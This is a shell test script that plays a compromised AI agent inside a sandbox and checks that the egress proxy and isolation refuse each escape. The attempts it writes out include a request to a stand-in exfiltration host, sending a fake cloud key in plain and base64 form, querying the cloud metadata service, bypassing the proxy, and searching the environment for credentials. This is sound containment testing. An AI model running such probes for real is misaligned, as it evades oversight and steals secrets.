# Plays an agent that was taken over, with the programs that any agent has. Each attempt prints what came of it.
number=0
attempt() { number=$((number + 1)); printf '\n%d. %s\n' "$number" "$1"; }
outcome() { printf '   -> %s\n' "$1"; }
reason() { tr -d '\r' | sed -n 's/^[< ]*x-bottle-reason: //p' | head -n 1; }
try() {
    printf '   $ curl %s\n' "$*" | cut -c 1-110
    answer=$(curl -sv --max-time 10 "$@" 2>&1)
    refused=$(printf '%s\n' "$answer" | reason)
    if [ -n "$refused" ]; then outcome "refused: $refused"; return 1; fi
    return 0
}
wrong=0
expect() { if [ "$refused" != "$1" ]; then outcome "NOT AS PROMISED: wanted $1, got '${refused:-an answer}'"; wrong=1; fi; }

attempt 'an allowed request, with a token that this agent never saw'
try https://api.demo.test/echo
seen=$(printf '%s\n' "$answer" | grep -o '"authorization","Bearer [^"]*"' | head -n 1)
outcome "answered; what the origin echoes of the token is blotted out: ${seen:-NOTHING}"
[ -n "$seen" ] || wrong=1

attempt 'a host that no route names'
try https://exfiltrate.example/
expect host_not_listed

attempt 'a path that the route does not allow'
try https://api.demo.test/admin
expect path_not_allowed

attempt 'a stolen key in an allowed request'
# Made up here, in the published form of a cloud provider's key ids.
key="AKIA$(tr -dc 'A-Z2-7' </dev/urandom | head -c 16)"
try https://api.demo.test/echo --data "{\"note\": \"$key\"}"
expect secret_detected

attempt 'the same key, hidden in base64'
try https://api.demo.test/echo --data "$(printf 'id=%s' "$key" | base64)"
expect secret_detected

attempt 'the cloud metadata service'
try http://169.254.169.254/latest/meta-data/
[ -n "$refused" ] || wrong=1

attempt 'the network, past the proxy'
printf '   $ curl --noproxy "*" http://192.0.2.1/\n'
if curl -s --noproxy '*' --max-time 3 http://192.0.2.1/ >/dev/null 2>&1; then outcome 'NOT AS PROMISED: it got out'; wrong=1
else outcome "no route: this network has $(grep -c : /proc/net/dev) device, lo, and $(($(wc -l </proc/net/route) - 1)) routes"; fi

attempt 'a credential in the environment or a file'
found=$(env | grep -c -i -E 'token|secret|key|password')
outcome "$found variables that look like one; the home has $(find "$HOME" -type f 2>/dev/null | wc -l) files; ~/.ssh of the host is not here"
[ "$found" = 0 ] || wrong=1

attempt 'the host: its processes, its files'
outcome "$(ls /proc | grep -c '^[0-9]') processes to see, all of this bottle; writing to /usr: $(touch /usr/x 2>&1 | sed 's/.*: //')"

printf '\n'
exit "$wrong"
